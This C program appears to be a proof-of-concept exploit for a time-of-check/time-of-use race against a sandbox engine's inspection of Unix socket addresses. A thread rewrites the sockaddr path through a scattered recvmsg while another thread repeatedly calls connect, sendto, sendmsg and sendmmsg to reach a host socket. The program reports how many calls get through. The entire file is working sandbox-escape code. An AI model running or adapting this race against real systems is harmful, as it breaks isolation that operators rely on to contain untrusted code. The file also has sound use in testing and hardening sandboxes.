/*
 * Tries to reach a socket of the host by changing the address between the engine's look and the kernel's. ARGS = own, host, feeder,
 * all of the same length. One thread waits in a single recvmsg, every part of whose vector is the path in the address; who feeds it is
 * outside. The other connects and sends, over and over. Says how many calls went through.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define PARTS 1024

static struct sockaddr_un address;
static size_t length;
static int feed;
static volatile int ended;

static void *overwrites(void *unused)
{
    static struct iovec parts[PARTS];
    struct msghdr header = {.msg_iov = parts, .msg_iovlen = PARTS};

    (void)unused;
    for (int index = 0; index < PARTS; index++)
        parts[index] = (struct iovec){address.sun_path, length};
    while (recvmsg(feed, &header, MSG_WAITALL) == (ssize_t)(PARTS * length))
        ;
    ended = 1;
    return NULL;
}

static int attempt(int kind, int round)
{
    struct iovec data = {"x", 1};
    struct mmsghdr message = {.msg_hdr = {.msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &data, .msg_iovlen = 1}};
    int fd = socket(AF_UNIX, kind, 0), done;

    if (kind == SOCK_STREAM)
        done = connect(fd, (struct sockaddr *)&address, sizeof address);
    else if (round % 3 == 0)
        done = sendto(fd, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&address, sizeof address);
    else if (round % 3 == 1)
        done = sendmsg(fd, &message.msg_hdr, MSG_DONTWAIT);
    else
        done = sendmmsg(fd, &message, 1, MSG_DONTWAIT);
    close(fd);
    return done >= 0;
}

int main(int argc, char **argv)
{
    int kind = argc > 4 ? SOCK_DGRAM : SOCK_STREAM, own = socket(AF_UNIX, kind | SOCK_NONBLOCK, 0), rounds = 0, through = 0, fd;
    pthread_t thread;
    char byte;

    if (argc < 4 || (length = strlen(argv[1])) != strlen(argv[2]))
        return 1;
    address.sun_family = AF_UNIX;
    strcpy(address.sun_path, argv[3]);
    feed = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(feed, (struct sockaddr *)&address, sizeof address))
        return 2;
    memset(address.sun_path, 0, sizeof address.sun_path);
    strcpy(address.sun_path, argv[1]);
    if (bind(own, (struct sockaddr *)&address, sizeof address) || (kind == SOCK_STREAM && listen(own, 1000)))
        return 3;
    if (pthread_create(&thread, NULL, overwrites, NULL))
        return 4;
    for (; !ended; rounds++) {
        through += attempt(kind, rounds);
        if (kind == SOCK_STREAM && (fd = accept(own, NULL, NULL)) >= 0)
            close(fd);
        while (kind == SOCK_DGRAM && recv(own, &byte, 1, 0) == 1)
            ;
    }
    pthread_join(thread, NULL);
    printf("%d of %d\n", through, rounds);
    return through > 0 && through < rounds ? 0 : 5;
}
